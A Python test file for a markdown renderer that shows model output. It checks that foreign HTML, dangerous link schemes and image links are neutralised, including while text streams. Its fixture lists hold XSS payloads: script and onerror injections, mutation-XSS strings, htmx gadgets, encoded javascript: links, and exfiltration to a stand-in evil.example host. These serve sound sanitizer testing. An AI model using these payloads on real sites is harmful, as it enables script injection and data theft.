"""What a model writes never becomes anything but text, links and simple marks, whole or piece by piece."""

import html
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from usage import markdown

HEADINGS = {f"h{level}" for level in range(1, 7)}
BLOCKS = {"p", "br", "hr", "blockquote", "ul", "ol", "li", "pre", "table", "thead", "tbody", "tr", "th", "td"}
TAGS = HEADINGS | BLOCKS | {"strong", "em", "s", "code", "a"}
FOREIGN = [  # X1, X3, X6: foreign HTML, gadgets of htmx, names that clobber
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><math><mtext><style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{background:url(https://evil.example/?d=1)}</style>",
    "<form action=https://evil.example><input name=x></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<template><script>alert(1)</script></template>",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<div hx-get=/keys/ hx-trigger=load data-hx-post=/x hx-on:click=alert(1) x-data=x></div>",
    "<a id=main name=forms data-behavior=copy class=button href=javascript:alert(1)>x</a>",
    "<p class='button primary'>x</p>",
    "<scr",
    "<img src='x",
]
LINKS = [  # X2: schemes that are no addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](/accounts/logout/)",
    "[x](#main)",
]
IMAGES = ["![x](https://evil.example/?d=secret)", "![x][y]\n\n[y]: https://evil.example/?d=secret"]  # X6


class Seen(HTMLParser):
    """What a browser would make of it."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def check(rendered: str) -> None:
    """This will fail when anything but the allowed tags, attributes and schemes is there."""
    for tag, attributes in Seen(rendered).tags:
        assert tag in TAGS
        for name, value in attributes.items():
            assert (tag, name) in {("a", "href"), ("a", "title"), ("a", "rel"), ("ol", "start"), ("code", "class")}
            if name == "class":
                assert str(value).startswith("language-")
            if name == "href" and ":" in str(value).split("/")[0]:
                assert str(value).partition(":")[0].lower() in {"http", "https", "mailto"}


class TestRender:
    @pytest.mark.parametrize("text", FOREIGN)
    def test_makes_text_of_foreign_html(self, text: str) -> None:
        rendered = markdown.render(text)
        check(rendered)
        assert not {tag for tag, _ in Seen(rendered).tags} - {"p", "a"}

    @pytest.mark.parametrize("text", LINKS)
    def test_links_nowhere_but_to_addresses(self, text: str) -> None:
        rendered = markdown.render(text)
        check(rendered)
        assert "script:" not in "".join(str(each.get("href")) for _, each in Seen(rendered).tags)

    @pytest.mark.parametrize("text", IMAGES)
    def test_makes_plain_links_of_images(self, text: str) -> None:
        tags = Seen(markdown.render(text)).tags
        assert [tag for tag, _ in tags] == ["p", "a"]
        assert tags[1][1]["rel"] == "noopener noreferrer nofollow"

    def test_keeps_what_people_write_with(self) -> None:
        text = "# T\n\n- **a** `b` ~~c~~\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n```python\nif a < b: pass\n```\n"
        rendered = markdown.render(text)
        for piece in (
            "<h1>T</h1>",
            "<strong>a</strong>",
            "<s>c</s>",
            "<td>1</td>",
            'class="language-python"',
            "a &lt; b",
        ):
            assert piece in rendered

    @pytest.mark.parametrize("language", ['js" onclick="x', "a" * 99, "evil <b>", "語"])
    def test_takes_no_strange_language_of_code(self, language: str) -> None:  # X4
        check(markdown.render(f"```{language}\nx\n```"))

    def test_survives_what_is_deep_and_long(self) -> None:  # X4
        for text in (">" * 5_000 + "x", "- " * 5_000 + "x", "*" * 10_000, "[" * 10_000, "x" * 300_000):
            rendered = markdown.render(text)
            check(rendered)
            assert rendered.count("<blockquote>") <= markdown.DEEPEST_NESTING

    @given(st.text(alphabet=st.sampled_from("<>&\"'`*_[]()!#-|\\:;/=\n\t abhijnorstvx\u202e\u0301"), max_size=120))
    @example("[a](<javascript:x>)")
    def test_is_safe_whatever_comes(self, text: str) -> None:
        check(markdown.render(text))

    @given(st.lists(st.sampled_from(FOREIGN + LINKS + IMAGES + ["\n", "\n\n", "```\n", "> ", "- "]), max_size=6))
    def test_is_safe_whatever_is_mixed(self, pieces: list[str]) -> None:
        check(markdown.render("".join(pieces)))


class TestBlocks:
    def test_cuts_at_blank_lines(self) -> None:
        blocks = markdown.Blocks()
        assert blocks.feed("One\ntwo\n") == []
        assert blocks.feed("\nThr") == ["One\ntwo"]
        assert blocks.rest() == "Thr"

    def test_keeps_code_whole(self) -> None:
        blocks = markdown.Blocks()
        assert blocks.feed("```\na\n\nb\n") == []
        assert blocks.feed("```\n\nnext") == ["```\na\n\nb\n```"]

    @pytest.mark.parametrize("inner", ["~~~\n\nx", "``\n\nx", "```x\n\ny", "    ```\n\nx"])
    def test_ends_code_with_its_own_fence_only(self, inner: str) -> None:
        blocks = markdown.Blocks()
        assert blocks.feed(f"```\n{inner}\n") == []
        assert blocks.feed("````\n\n") == [f"```\n{inner}\n````"]

    @given(st.lists(st.text(alphabet="ab`~ \n", max_size=12), max_size=12))
    def test_loses_and_adds_no_letter_however_it_is_cut(self, pieces: list[str]) -> None:
        blocks = markdown.Blocks()
        finished = [block for piece in pieces for block in blocks.feed(piece)]
        assert _letters("".join([*finished, blocks.rest()])) == _letters("".join(pieces))

    @given(st.text(alphabet="ab`~ \n", max_size=60), st.integers(1, 7))
    def test_cuts_the_same_however_it_arrives(self, text: str, size: int) -> None:
        whole, piecewise = markdown.Blocks(), markdown.Blocks()
        pieces = [text[at : at + size] for at in range(0, len(text), size)]
        assert whole.feed(text) == [block for piece in pieces for block in piecewise.feed(piece)]
        assert whole.rest() == piecewise.rest()

    @given(st.lists(st.sampled_from([*FOREIGN, *LINKS, "\n\n", "```\n", "\n"]), max_size=8), st.integers(1, 9))
    def test_is_safe_while_it_streams(self, pieces: list[str], size: int) -> None:  # X1
        text, blocks = "".join(pieces), markdown.Blocks()
        for at in range(0, len(text), size):
            for block in blocks.feed(text[at : at + size]):
                check(markdown.render(block))


def _letters(text: str) -> str:
    return "".join(html.unescape(text).split())
